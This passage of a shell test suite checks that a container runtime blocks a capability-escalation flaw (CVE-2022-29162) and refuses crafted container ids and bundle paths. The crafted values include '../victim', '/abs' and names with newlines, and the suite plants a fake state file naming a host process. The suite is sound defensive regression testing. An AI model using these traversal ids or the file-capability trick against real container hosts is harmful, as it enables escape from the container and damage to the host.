# controls) and gains cap_x at execve, though the config gave that user nothing.
# The inheritable set must be exactly what the config asks (empty by default),
# the ambient set exactly the configured one — for the init and for exec.
# ============================================================================

cap_line() { awk -v k="$1:" '$1 == k { print $2 }' <<<"$2"; }

@test "CVE-2022-29162: a non-root user exec'ing an image's +ei file-capability binary gains nothing" {
    command -v setcap >/dev/null || skip "setcap not installed"
    # busybox picks the applet by its name: this copy is "grep" with file caps
    mkdir -p "$BUNDLE/rootfs/capbb"
    cp "$BUNDLE/rootfs/bin/busybox" "$BUNDLE/rootfs/capbb/grep"
    setcap cap_net_bind_service+ei "$BUNDLE/rootfs/capbb/grep" || skip "file capabilities not supported here"
    update_config '.process.user = {uid: 1000, gid: 1000} | .process.noNewPrivileges = false'
    set_cmd sh -c 'grep ^Cap /proc/self/status; echo ---; /capbb/grep ^Cap /proc/self/status'
    run husk run --bundle "$BUNDLE" "$ID"
    assert_success
    local shell attack
    shell=$(awk '/^---$/ { exit } 1' <<<"$output")
    attack=$(awk 'f; /^---$/ { f = 1 }' <<<"$output")
    assert_equal "$(cap_line CapInh "$shell")" 0000000000000000
    assert_equal "$(cap_line CapAmb "$shell")" 0000000000000000
    assert_equal "$(cap_line CapEff "$attack")" 0000000000000000
    assert_equal "$(cap_line CapPrm "$attack")" 0000000000000000
    # exec into a running one: the same
    ID=$(new_id)
    set_cmd sleep 100
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    run husk exec "$ID" sh -c 'grep ^Cap /proc/self/status; echo ---; /capbb/grep ^Cap /proc/self/status'
    assert_success
    shell=$(awk '/^---$/ { exit } 1' <<<"$output")
    attack=$(awk 'f; /^---$/ { f = 1 }' <<<"$output")
    assert_equal "$(cap_line CapInh "$shell")" 0000000000000000
    assert_equal "$(cap_line CapEff "$attack")" 0000000000000000
    run husk delete --force "$ID"

    # Control: when the config does ask for it in the inheritable set, the same
    # binary gets it — the attack above would have worked with a full set.
    ID=$(new_id)
    update_config '.process.capabilities.inheritable = ["CAP_NET_BIND_SERVICE"]'
    set_cmd /capbb/grep ^CapEff /proc/self/status
    run husk run --bundle "$BUNDLE" "$ID"
    assert_success
    assert_contains "$(cap_mask CAP_NET_BIND_SERVICE)"
}

@test "CVE-2022-29162: ambient is exactly the configured set, inheritable only what is asked (init and exec)" {
    local want
    want=$(cap_mask CAP_NET_BIND_SERVICE)
    update_config '.process.user = {uid: 1000, gid: 1000}
        | .process.capabilities.inheritable = ["CAP_NET_BIND_SERVICE"]
        | .process.capabilities.ambient = ["CAP_NET_BIND_SERVICE"]'
    set_cmd sleep 100
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    local pid
    pid=$(state_field "$ID" pid)
    run grep ^Cap "/proc/$pid/status"
    assert_equal "$(cap_line CapInh "$output")" "$want"
    assert_equal "$(cap_line CapAmb "$output")" "$want"
    # uid 1000 keeps the ambient cap across execve, nothing else
    assert_equal "$(cap_line CapEff "$output")" "$want"
    run husk exec "$ID" grep ^Cap /proc/self/status
    assert_success
    assert_equal "$(cap_line CapInh "$output")" "$want"
    assert_equal "$(cap_line CapAmb "$output")" "$want"
    assert_equal "$(cap_line CapEff "$output")" "$want"
}

# ============================================================================
# --root escape — a container id or bundle path crafted to make the runtime
# create, read, signal or delete something outside its state root. The attack:
# an orchestrator passes an id taken from user input ("../../etc", "/abs", one
# with a newline that breaks a log or a state line); `delete --force ../x` then
# removes a host directory, `kill ../x` signals whatever pid a planted state.json
# names.
# ============================================================================

@test "--root: crafted ids are refused by every verb; nothing made, read, signalled or deleted outside ROOT" {
    local long id verb before_parent before_slash victim_pid
    long=$(printf 'x%.0s' $(seq 1 300))
    before_parent=$(entries "$TEST_DIR")
    before_slash=$(ls -A /)
    # A planted "container" next to ROOT: a dir with a state.json naming a host process.
    sleep 300 </dev/null >/dev/null 2>&1 3>&- &
    victim_pid=$!
    echo "$victim_pid" >>"$TEST_DIR/bg-pids"
    mkdir -p "$TEST_DIR/victim"
    jq -n --argjson p "$victim_pid" '{ociVersion: "1.3.0", id: "victim", pid: $p, status: "running",
        bundle: "/", created: "2020-01-01T00:00:00Z"}' >"$TEST_DIR/victim/state.json"
    cp "$TEST_DIR/victim/state.json" "$TEST_DIR/victim/keep"
    before_parent=$(entries "$TEST_DIR")
    for id in "../victim" "../x" "/abs" "$TEST_DIR/victim" "a/b" "$long" $'a\nb' $'a\x01b' "." ".." "" "..."; do
        [ "$id" = "..." ] && continue   # "..." is a valid name: not an escape
        run --separate-stderr husk create --bundle "$BUNDLE" "$id"
        assert_failure
        is_husk && assert_one_line "$stderr"
        is_husk && assert_contains "container id" "$stderr"
        for verb in "state" "kill" "delete --force" "exec"; do
            # shellcheck disable=SC2086
            run --separate-stderr husk $verb "$id" ${verb:+$([ "$verb" = exec ] && echo true)}
            assert_failure
            if is_husk; then
                assert_one_line "$stderr"
            fi
        done
        assert_root_empty
    done
    # The planted dir is intact, its process alive, nothing new next to ROOT or at /.
    kill -0 "$victim_pid" || fail "a crafted id signalled a host process"
    cmp "$TEST_DIR/victim/state.json" "$TEST_DIR/victim/keep"
    assert_equal "$(entries "$TEST_DIR")" "$before_parent"
    assert_equal "$(ls -A /)" "$before_slash"
}

@test "--root: bundle paths that do not exist, are files, or dangle are refused; relative and symlinked ones resolve" {
    local b before_parent
    before_parent=$(entries "$TEST_DIR")
    ln -s "$TEST_DIR/nowhere" "$TEST_DIR/dangling"
    echo file >"$TEST_DIR/afile"
    before_parent=$(entries "$TEST_DIR")
    for b in "$TEST_DIR/nowhere" "$TEST_DIR/dangling" "$TEST_DIR/afile" "" $'bad\nname' "../../../../../nowhere"; do
        run --separate-stderr husk create --bundle "$b" "$ID"
        assert_failure
        is_husk && assert_one_line "$stderr"
        assert_no_trace "$ID"
        assert_root_empty
    done
    assert_equal "$(entries "$TEST_DIR")" "$before_parent"
    # A relative path and a symlink to the bundle are fine (as runc): the state
    # records the resolved absolute path, so later verbs never depend on the cwd or
    # on where the link points by then.
    ln -s "$BUNDLE" "$TEST_DIR/link"
    cd "$TEST_DIR"
    run husk create --bundle ./link "$ID"
    assert_success
    assert_equal "$(state_field "$ID" bundle)" "$BUNDLE"
    rm "$TEST_DIR/link"
    ln -s / "$TEST_DIR/link"
    run husk delete --force "$ID"
    assert_success
    assert_no_trace "$ID"
}
